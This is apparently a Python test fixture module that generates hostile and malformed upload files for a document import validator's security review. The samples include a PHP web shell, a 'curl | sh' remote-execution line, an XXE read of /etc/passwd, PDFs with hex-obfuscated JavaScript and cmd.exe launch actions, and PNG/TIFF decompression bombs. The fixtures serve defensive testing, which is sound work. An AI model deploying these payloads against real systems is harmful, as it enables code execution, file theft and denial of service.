"""Small files made on the fly: good ones of each accepted kind, and bad ones, among them the
hostile corpus of the security review (active PDFs, malformed page trees, image bombs)."""

import functools
import io
import struct
import zipfile
import zlib

from PIL import Image

from cases.pdfgen import simple_pdf


def write_files(folder, files: dict[str, bytes]) -> list[str]:
    """Writes the files into `folder` (created) and returns their paths, for import_documents."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, content in files.items():
        (folder / name).write_bytes(content)
        paths.append(str(folder / name))
    return paths


def image_bytes(fmt: str, size=(64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(buffer, format=fmt)
    return buffer.getvalue()


def good_files() -> dict[str, bytes]:
    return {
        "certificat.pdf": simple_pdf(["Certificat médical initial"]),
        "radio.jpg": image_bytes("JPEG"),
        "schema.png": image_bytes("PNG"),
        "scan.tiff": image_bytes("TIFF"),
    }


def bad_files() -> dict[str, bytes]:
    pdf = simple_pdf(["Compte rendu"])
    jpeg = image_bytes("JPEG", (400, 300))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("a.txt", "contenu")
    return {
        "vide.pdf": b"",
        "page.pdf": b"<html><script>alert(1)</script></html>",
        "programme.pdf": b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200,
        "elf.jpg": b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
        "dessin.png": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "archive.pdf": archive.getvalue(),
        "tronque.pdf": pdf[: len(pdf) // 2],
        "tronquee.jpg": jpeg[: len(jpeg) // 2],
        "entete-seul.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 30,
        "faux.tiff": b"II*\x00" + b"\xff" * 40,
        "texte.txt": b"Certificat en texte brut",
    }


def _zip(entries: dict[str, str]) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        for name, text in entries.items():
            zf.writestr(name, text)
    return archive.getvalue()


def _pdf_without_pages() -> bytes:
    from pypdf import PdfWriter

    buffer = io.BytesIO()
    PdfWriter().write(buffer)
    return buffer.getvalue()


def _encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(simple_pdf(["Secret"]))))
    writer.encrypt("mot-de-passe")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _active_pdf(kind: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(simple_pdf(["Certificat"]))))
    if kind == "attachment":
        writer.add_attachment("programme.exe", b"MZ\x90\x00")
    buffer = io.BytesIO()
    writer.write(buffer)
    data = buffer.getvalue()
    actions = {"launch": b"<< /S /Launch /F (cmd.exe) >>", "js": b"<< /S /JavaScript /JS (app.alert(1)) >>"}
    if kind in actions:
        data = data.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction " + actions[kind], 1)
    return data


def _corrupt_png() -> bytes:
    png = bytearray(image_bytes("PNG", (120, 90)))
    start = png.index(b"IDAT") + 8
    png[start : start + 20] = b"\x00" * 20  # the compressed pixels no longer inflate
    return bytes(png)


def hostile_files() -> dict[str, bytes]:
    """At least 30 malformed or hostile files, each to be refused with a message naming it and
    nothing stored (OWASP ASVS V5.2). Harmless polyglots are in `harmless_polyglots`."""
    tiff = image_bytes("TIFF", (200, 150))
    eicar = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    files = {
        **bad_files(),
        "dessin.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "archive.zip": _zip({"certificat.pdf": "x"}),
        "rapport.docx": _zip({"word/document.xml": "<w:document/>", "[Content_Types].xml": "<Types/>"}),
        "script.pdf": b"#!/bin/sh\ncurl http://example.invalid | sh\n",
        "page.html": b"<!DOCTYPE html><html><body onload=alert(1)></body></html>",
        "page-bom.pdf": b"\xef\xbb\xbf<!DOCTYPE html><script>alert(1)</script>",
        "webshell.jpg": b"<?php system($_GET['c']); ?>",
        "xxe.pdf": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "lettre.pdf": b"{\\rtf1\\ansi Certificat}",
        "eicar.pdf": eicar,
        "compresse.pdf": b"\x1f\x8b\x08\x00" + b"\x00" * 60,
        "archive7z.pdf": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 60,
        "archive-rar.pdf": b"Rar!\x1a\x07\x00" + b"\x00" * 60,
        "macho.pdf": b"\xcf\xfa\xed\xfe" + b"\x00" * 60,
        "classe.jpg": b"\xca\xfe\xba\xbe" + b"\x00" * 60,
        "entete-pdf.pdf": b"%PDF-1.7\n" + bytes(range(256)) * 4,
        "pdf-illisible.pdf": b"%PDF-1.4\n1 0 obj << /Type /Catalog >>\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        "sans-page.pdf": _pdf_without_pages(),
        "chiffre.pdf": _encrypted_pdf(),
        "polyglotte.gif": b"GIF89a/*\x00\x00\x00\x00*/=alert(1)//;",
        "unicode16.pdf": "Certificat médical".encode("utf-16"),
        "entete-seul.jpg": b"\xff\xd8\xff\xe0" + b"\x00" * 40,
        "pixels-corrompus.png": _corrupt_png(),
        "tronquee.tiff": tiff[: len(tiff) // 3],
        "image.bmp": image_bytes("BMP"),
        "image.webp": image_bytes("WEBP"),
        "image.gif": image_bytes("GIF"),
        "javascript.pdf": _active_pdf("js"),
        "piece-jointe.pdf": _active_pdf("attachment"),
        "lancement.pdf": _active_pdf("launch"),
    }
    assert len(files) >= 30
    return files


def harmless_polyglots() -> dict[str, bytes]:
    """Valid images carrying script or markup: harmless once stored, if never run by a browser."""
    jpeg = image_bytes("JPEG", (80, 60))
    return {
        "polyglotte.jpg": jpeg + b"<html><script>alert(document.cookie)</script></html>",
        "commentaire.png": image_bytes("PNG") + b"<?php echo 'x'; ?>",
    }


# ---------------------------------------------------------------------------------------------
# PDFs written object by object, to say exactly what a hostile file holds.


def pdf_from_objects(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF whose objects are numbered 1, 2, ... in order, object 1 being the catalogue, with a
    correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R ".encode() + trailer
    out += f">>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def one_page_pdf(*, catalog: bytes = b"", page: bytes = b"", extra: tuple[bytes, ...] = ()) -> bytes:
    """One page of text; objects 1-5 are the catalogue, the page tree, the page, its content and
    its font, and `extra` are objects 6, 7, ... that the additions may refer to."""
    content = b"BT /F1 12 Tf 56 780 Td (Compte rendu) Tj ET"
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
            b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *extra,
        ]
    )


# A script whose every name is hex-escaped (/J#61vaScript is /JavaScript, /J#53 is /JS): the raw
# bytes never spell them, only a parser does.
_JS = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
_GOTO = b"<< /S /GoTo /D [3 0 R /Fit] >>"


def _annotation(subtype: bytes, more: bytes = b"") -> bytes:
    return b"<< /Type /Annot /Subtype " + subtype + b" /Rect [10 10 60 60] " + more + b" >>"


def active_pdfs() -> dict[str, bytes]:
    """PDFs with active content that the former raw-bytes and first-level checks let through
    (security review, finding 5): each must be refused, whatever path leads to the action."""
    return {
        "js-nom-echappe.pdf": one_page_pdf(catalog=b"/OpenAction " + _JS),
        "lancement-echappe.pdf": one_page_pdf(catalog=b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
        "formulaire-envoye.pdf": one_page_pdf(
            page=b"/Annots [6 0 R]",
            extra=(_annotation(b"/Link", b"/A << /S /Subm#69tForm /F (https://example.invalid/r) >>"),),
        ),
        "chaine-next.pdf": one_page_pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + _JS + b" >>"),
        "chaine-next-tableau.pdf": one_page_pdf(
            catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [" + _GOTO + b" 6 0 R] >>",
            extra=(b"<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>", _JS),
        ),
        "signet-profond.pdf": one_page_pdf(
            catalog=b"/Outlines 6 0 R",
            extra=(
                b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 2 >>",
                b"<< /Title (Examen) /Parent 6 0 R /First 8 0 R /Last 8 0 R /Count 1 /Dest [3 0 R /Fit] >>",
                b"<< /Title (Conclusions) /Parent 7 0 R /A " + _GOTO[:-2] + b" /Next " + _JS + b" >> >>",
            ),
        ),
        "annotation-aa.pdf": one_page_pdf(
            page=b"/Annots [6 0 R]", extra=(_annotation(b"/Widget", b"/FT /Btn /T (ok) /AA << /E " + _JS + b" >>"),)
        ),
        "champ-de-formulaire.pdf": one_page_pdf(
            catalog=b"/AcroForm << /Fields [6 0 R] >>",
            extra=(b"<< /FT /Tx /T (nom) /Kids [7 0 R] >>", b"<< /Parent 6 0 R /AA << /K " + _JS + b" >> >>"),
        ),
        "page-aa.pdf": one_page_pdf(page=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >> >>", extra=(_JS,)),
        "catalogue-aa.pdf": one_page_pdf(catalog=b"/AA << /WC << /S /Named /N /Print /Next " + _JS + b" >> >>"),
        "noms-javascript.pdf": one_page_pdf(
            catalog=b"/Names << /J#61vaScript << /Names [(ouverture) 6 0 R] >> >>", extra=(_JS,)
        ),
        "noms-fichiers-joints.pdf": one_page_pdf(
            catalog=b"/Names << /Embedd#65dFiles << /Names [(a.exe) 6 0 R] >> >>",
            extra=(
                b"<< /Type /Filespec /F (a.exe) /E#46 << /F 7 0 R >> >>",
                b"<< /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
            ),
        ),
        "piece-jointe-sans-type.pdf": one_page_pdf(
            page=b"/Annots [6 0 R]",
            extra=(
                _annotation(b"/FileAtt#61chment", b"/FS << /Type /Filespec /F (a.exe) /E#46 << /F 7 0 R >> >>"),
                b"<< /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
            ),
        ),
        "ecran.pdf": one_page_pdf(page=b"/Annots [6 0 R]", extra=(_annotation(b"/Scr#65en"),)),
        "film.pdf": one_page_pdf(page=b"/Annots [6 0 R]", extra=(_annotation(b"/Movie"),)),
        "son.pdf": one_page_pdf(page=b"/Annots [6 0 R]", extra=(_annotation(b"/So#75nd"),)),
        "richmedia.pdf": one_page_pdf(page=b"/Annots [6 0 R]", extra=(_annotation(b"/RichM#65dia"),)),
        "xfa.pdf": one_page_pdf(
            catalog=b"/AcroForm << /Fields [] /X#46A 6 0 R >>",
            extra=(b"<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream",),
        ),
        "import-donnees.pdf": one_page_pdf(catalog=b"/OpenAction << /S /Imp#6frtData /F (donnees.fdf) >>"),
        "goto-distant.pdf": one_page_pdf(catalog=b"/OpenAction << /S /GoT#6fR /F (autre.pdf) /D [0 /Fit] >>"),
        "goto-embarque.pdf": one_page_pdf(catalog=b"/OpenAction << /S /GoT#6fE /T << /R /C /N (x) >> /D [0 /Fit] >>"),
        "richmedia-execute.pdf": one_page_pdf(
            page=b"/Annots [6 0 R]",
            extra=(_annotation(b"/Link", b"/A << /S /RichMediaExec#75te /TA 3 0 R /CMD << /C (x) >> >>"),),
        ),
        "lien-javascript.pdf": one_page_pdf(
            page=b"/Annots [6 0 R]", extra=(_annotation(b"/Link", b"/A << /S /URI /URI (javascript:alert\\(1\\)) >>"),)
        ),
        "type-indirect.pdf": one_page_pdf(catalog=b"/OpenAction << /S 6 0 R /F (cmd.exe) >>", extra=(b"/L#61unch",)),
    }


def harmless_pdfs() -> dict[str, bytes]:
    """PDFs without active content that must still be accepted: text that merely names the
    actions (the former raw-bytes check refused it), links, bookmarks and cyclic /Next chains."""
    return {
        "texte-sur-javascript.pdf": simple_pdf(["Les mots /JavaScript, /Launch et /EmbeddedFiles dans le texte."]),
        "liens-et-signets.pdf": one_page_pdf(
            catalog=b"/Outlines 6 0 R /OpenAction [3 0 R /Fit] /PageMode /UseOutlines",
            page=b"/Annots [8 0 R]",
            extra=(
                b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                b"<< /Title (Examen) /Parent 6 0 R /A " + _GOTO + b" >>",
                _annotation(b"/Link", b"/A << /S /URI /URI (https://www.legifrance.gouv.fr/) >>"),
            ),
        ),
        "next-en-boucle.pdf": one_page_pdf(
            catalog=b"/OpenAction 6 0 R",
            extra=(
                b"<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>",
                b"<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R 7 0 R] >>",
            ),
        ),
        "signets-en-boucle.pdf": one_page_pdf(
            catalog=b"/Outlines 6 0 R",
            extra=(
                b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                b"<< /Title (A) /Parent 6 0 R /First 7 0 R /Next 7 0 R /Dest [3 0 R /Fit] >>",
            ),
        ),
    }


def _page_tree_pdf(kids_of_root: bytes, *nodes: bytes) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids_of_root + b"] /Count 1 >>",
            page,
            *nodes,
        ]
    )


def malformed_pdfs() -> dict[str, bytes]:
    """PDFs on which pypdf raises (LimitReachedError and others) rather than answering (security
    review, finding 6): each must be refused with its name, never a server error."""
    fan = 60
    return {
        # 60 x 60 x 60 references to one page from 1.6 KB: pypdf copies pages until its limit.
        "pages-demultipliees.pdf": _page_tree_pdf(
            b"4 0 R " * fan,
            b"<< /Type /Pages /Parent 2 0 R /Kids [" + b"5 0 R " * fan + b"] /Count 1 >>",
            b"<< /Type /Pages /Parent 4 0 R /Kids [" + b"3 0 R " * fan + b"] /Count 1 >>",
        ),
        "page-repetee.pdf": _page_tree_pdf(b"3 0 R " * 400),
        "pages-en-boucle.pdf": _page_tree_pdf(b"2 0 R 3 0 R"),
        "pages-boucle-indirecte.pdf": _page_tree_pdf(
            b"4 0 R", b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 2 0 R] /Count 1 >>"
        ),
        "racine-absente.pdf": one_page_pdf().replace(b"/Root 1 0 R", b"/Root 99 0 R"),
        "objets-imbriques.pdf": one_page_pdf(catalog=b"/OpenAction " + b"[" * 5000 + b"]" * 5000),
        "flux-demesure.pdf": one_page_pdf(
            catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
            extra=(b"<< /Length 9000000000 /Filter /FlateDecode >>\nstream\nxx\nendstream",),
        ),
    }


# ---------------------------------------------------------------------------------------------
# Images written chunk by chunk, so that a large or hostile one costs the test nothing.


def _zero_rows_zlib(row_length: int, rows: int) -> bytes:
    """A zlib stream of `rows` rows of zero bytes, built in a blink: each row is one fully
    flushed deflate block, the same bytes every time, then an empty final block and the Adler-32
    of n zero bytes, which is (n mod 65521) << 16 | 1."""
    row = bytes(row_length)
    compressor = zlib.compressobj(9)
    first = compressor.compress(row) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(row) + compressor.flush(zlib.Z_FULL_FLUSH)
    adler = ((row_length * rows) % 65521) << 16 | 1
    return first + again * (rows - 1) + b"\x03\x00" + adler.to_bytes(4, "big")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_raw_length(width: int, height: int, *, channels: int, depth: int, interlace: bool = False) -> int:
    """The length of a PNG's decompressed data: a filter byte and the packed pixels of each row,
    of each of the seven Adam7 passes when interlaced."""
    passes = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))
    total = 0
    for x0, y0, dx, dy in passes if interlace else ((0, 0, 1, 1),):
        columns, rows = max(0, -(-(width - x0) // dx)), max(0, -(-(height - y0) // dy))
        if columns and rows:
            total += rows * (1 + (columns * channels * depth + 7) // 8)
    return total


@functools.lru_cache(maxsize=32)
def png_bytes(
    width: int,
    height: int,
    *,
    color_type: int = 2,
    depth: int = 8,
    data_rows: int | None = None,
    interlace: bool = False,
    raw: bytes | None = None,
) -> bytes:
    """A black PNG of any size, made without holding its pixels (non-interlaced). `data_rows`
    writes that many rows of pixel data instead of `height` (a lie about the length); `raw` is
    the decompressed data to write instead of black rows."""
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[color_type]
    if raw is None and interlace:
        raw = bytes(png_raw_length(width, height, channels=channels, depth=depth, interlace=True))
    if raw is not None:
        stream = zlib.compress(raw, 9)
    else:
        row = 1 + (width * channels * depth + 7) // 8
        stream = _zero_rows_zlib(row, data_rows if data_rows is not None else height)
    ihdr = struct.pack(">IIBBBBB", width, height, depth, color_type, 0, 0, int(interlace))
    idat = b"".join(_png_chunk(b"IDAT", stream[i : i + 65536]) for i in range(0, len(stream), 65536))
    palette = _png_chunk(b"PLTE", bytes(3)) if color_type == 3 else b""
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + palette + idat + _png_chunk(b"IEND", b"")


@functools.lru_cache(maxsize=16)
def tiff_bytes(
    width: int,
    height: int,
    *,
    rows_per_strip: int = 64,
    tile: int | None = None,
    deflate: bool = True,
    big_endian: bool = False,
    loop: bool = False,
    claimed: tuple[int, int] | None = None,
    pages: int = 1,
) -> bytes:
    """A black 8-bit greyscale TIFF, in strips (or square tiles of `tile` pixels) compressed with
    Deflate or not; `loop` makes the directory name itself as the next page, `claimed` is the
    size its header states instead of the real one, and `pages` directories share the strips."""
    order = ">" if big_endian else "<"
    if tile:
        shapes = [(tile, tile)] * (-(-width // tile) * -(-height // tile))
    else:
        shapes = [(width, min(rows_per_strip, height - top)) for top in range(0, height, rows_per_strip)]
    units = [_zero_rows_zlib(w, h) if deflate else bytes(w * h) for w, h in shapes]
    out = bytearray((b"MM\x00*" if big_endian else b"II*\x00") + bytes(4))
    offsets = []
    for unit in units:
        offsets.append(len(out))
        out += unit
    out += b"\x00" * (len(out) % 2)
    arrays = len(out)
    out += struct.pack(f"{order}{len(units)}I", *offsets)
    out += struct.pack(f"{order}{len(units)}I", *(len(u) for u in units))
    ifd = len(out)
    many = len(units) > 1
    shown = claimed or (width, height)
    where = arrays if many else offsets[0]
    sizes = arrays + 4 * len(units) if many else len(units[0])
    if tile:
        layout = [(322, 4, 1, tile), (323, 4, 1, tile), (324, 4, len(units), where), (325, 4, len(units), sizes)]
    else:
        layout = [(273, 4, len(units), where), (278, 4, 1, rows_per_strip), (279, 4, len(units), sizes)]
    entries = sorted(
        [
            (256, 4, 1, shown[0]),
            (257, 4, 1, shown[1]),
            (258, 3, 1, 8),
            (259, 3, 1, 8 if deflate else 1),
            (262, 3, 1, 1),
            (277, 3, 1, 1),
            *layout,
        ]
    )
    size = 2 + 12 * len(entries) + 4
    for page in range(pages):
        out += struct.pack(f"{order}H", len(entries))
        for tag, kind, count, value in entries:
            packed = struct.pack(f"{order}HH", value, 0) if kind == 3 else struct.pack(f"{order}I", value)
            out += struct.pack(f"{order}HHI", tag, kind, count) + packed
        following = ifd + (page + 1) * size if page + 1 < pages else (ifd if loop else 0)
        out += struct.pack(f"{order}I", following)
    out[4:8] = struct.pack(f"{order}I", ifd)
    return bytes(out)


def _jpeg_with_size(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims another size."""
    jpeg = bytearray(image_bytes("JPEG", (64, 48)))
    frame = jpeg.index(b"\xff\xc0")
    jpeg[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(jpeg)


def _tiff_strip_table_outside() -> bytes:
    tiff = bytearray(tiff_bytes(64, 256, rows_per_strip=16, deflate=False))
    ifd = struct.unpack_from("<I", tiff, 4)[0]
    for index in range(struct.unpack_from("<H", tiff, ifd)[0]):
        entry = ifd + 2 + 12 * index
        if struct.unpack_from("<H", tiff, entry)[0] == 273:
            struct.pack_into("<I", tiff, entry + 4, 20_000_000)  # 80 MB of offsets in a 16 KB file
    return bytes(tiff)


def image_bombs() -> dict[str, bytes]:
    """Images that cost far more to decode than to send (security review, finding 7): each is
    refused from its header or its structure, before any pixel is decoded."""
    return {
        "bombe-9400.png": png_bytes(9400, 9400, color_type=6),
        "bombe-large.png": png_bytes(200_000, 500, color_type=0),
        "donnees-en-trop.png": png_bytes(100, 100, data_rows=100_000),
        "donnees-manquantes.png": png_bytes(2000, 2000, data_rows=1000),
        "jpeg-geant.jpg": _jpeg_with_size(65_000, 65_000),
        "tiff-geant.tiff": tiff_bytes(64, 64, claimed=(20_000, 20_000)),
        "tiff-en-boucle.tiff": tiff_bytes(64, 64, loop=True),
        "tiff-table-hors-fichier.tiff": _tiff_strip_table_outside(),
    }


@functools.lru_cache(maxsize=1)
def large_legal_jpeg() -> bytes:
    """A 6000 x 6000 greyscale JPEG (36 Mpx, an A4 page at 600 dpi is 35 Mpx)."""
    from PIL import Image

    buffer = io.BytesIO()
    with Image.new("L", (6000, 6000), 255) as image:
        image.save(buffer, format="JPEG", quality=75)
    return buffer.getvalue()


def large_legal_images() -> dict[str, bytes]:
    """Large scans under the pixel limit: accepted, and checked without decoding their pixels
    at full size (a 64 Mpx RGB page is 192 MB of pixels)."""
    return {
        "grand.png": png_bytes(8000, 8000, color_type=2),
        "grand.tiff": tiff_bytes(8000, 8000, rows_per_strip=256),
        "grand.jpg": large_legal_jpeg(),
    }
